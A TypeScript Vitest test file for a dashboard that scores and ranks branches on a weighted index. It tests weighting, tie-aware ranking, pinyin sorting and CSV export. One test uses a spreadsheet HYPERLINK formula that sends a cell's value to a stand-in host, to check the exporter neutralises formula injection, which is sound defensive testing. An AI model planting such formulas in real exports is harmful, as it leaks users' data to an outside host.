import { describe, expect, it } from 'vitest';
import { meanOf, rankByIndex, round2, weightedIndex } from '../../dashboard/src/lib/features/whatif.ts';
import { BRANCH_COMPONENTS } from '../../dashboard/src/lib/indicators.ts';
import { nextSort, sortRows } from '../../dashboard/src/lib/table/sort.ts';
import { toCsv } from '../../dashboard/src/lib/table/export.ts';
import type { Column } from '../../dashboard/src/lib/table/columns.ts';

describe('what-if index and ranks', () => {
  const weights = Object.fromEntries(BRANCH_COMPONENTS.map((c) => [c.key, c.weight]));

  it('renormalises the weights over the components that are present', () => {
    // regularity 0.9 (0.30), participation 0.8 (0.20), quality 80/100 (0.25); the rest NULL.
    const v = { regularity: 0.9, participation_rate: 0.8, quality_score: 80, political_content_share: null, rectification_rate: null, dual_life_rate: null };
    expect(weightedIndex(v, BRANCH_COMPONENTS, weights)).toBeCloseTo((100 * (0.3 * 0.9 + 0.2 * 0.8 + 0.25 * 0.8)) / 0.75, 10);
    expect(weightedIndex({}, BRANCH_COMPONENTS, weights)).toBeNull();
    expect(weightedIndex(v, BRANCH_COMPONENTS, { ...weights, regularity: 0, participation_rate: 0, quality_score: 0 })).toBeNull();
  });

  it('ranks like the models: rounded half-up to 2 decimals, ties share, next skips, NULL unranked', () => {
    expect(round2(2.675)).toBe(2.68);
    expect(rankByIndex([80, 90.004, 90.001, null, 70])).toEqual([3, 1, 1, null, 4]);
    expect(meanOf([1, null, 3])).toBe(2);
    expect(meanOf([null])).toBeNull();
  });
});

describe('tables', () => {
  type R = { name: string; index: number | null };
  const columns: Column<R>[] = [
    { key: 'name', label: '名称', kind: 'text' },
    { key: 'index', label: '质效指数', kind: 'index' },
  ];
  const rows: R[] = [
    { name: '张三大学', index: 70 },
    { name: '阿里学院', index: null },
    { name: '李四学院', index: 90 },
  ];

  it('sorts numbers with NULL last either way, and names by pinyin', () => {
    expect(sortRows(rows, columns, '-index').map((r) => r.name)).toEqual(['李四学院', '张三大学', '阿里学院']);
    expect(sortRows(rows, columns, 'index').map((r) => r.name)).toEqual(['张三大学', '李四学院', '阿里学院']);
    expect(sortRows(rows, columns, 'name').map((r) => r.name)).toEqual(['阿里学院', '李四学院', '张三大学']);
    expect([nextSort(null, 'index', true), nextSort('-index', 'index', true), nextSort('index', 'index', true)]).toEqual(['-index', 'index', null]);
  });

  it('writes CSV in UTF-8 with a BOM, NULL as empty, quoting where needed', () => {
    const csv = toCsv(columns, [...rows, { name: '带,逗号"的', index: 1.5 }]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1).split('\r\n')).toEqual(['名称,质效指数', '张三大学,70', '阿里学院,', '李四学院,90', '"带,逗号""的",1.5', '']);
  });

  it('keeps a text that starts like a formula as text, and a negative number as a number', () => {
    const csv = toCsv(columns, [
      { name: '=HYPERLINK("http://x.example/?"&A1,"点击")', index: -2 },
      { name: '+86 电话', index: 3 },
      { name: '@某人', index: null },
    ]);
    expect(csv.slice(1).split('\r\n')).toEqual([
      '名称,质效指数',
      '"\'=HYPERLINK(""http://x.example/?""&A1,""点击"")",-2',
      "'+86 电话,3",
      "'@某人,",
      '',
    ]);
  });
});
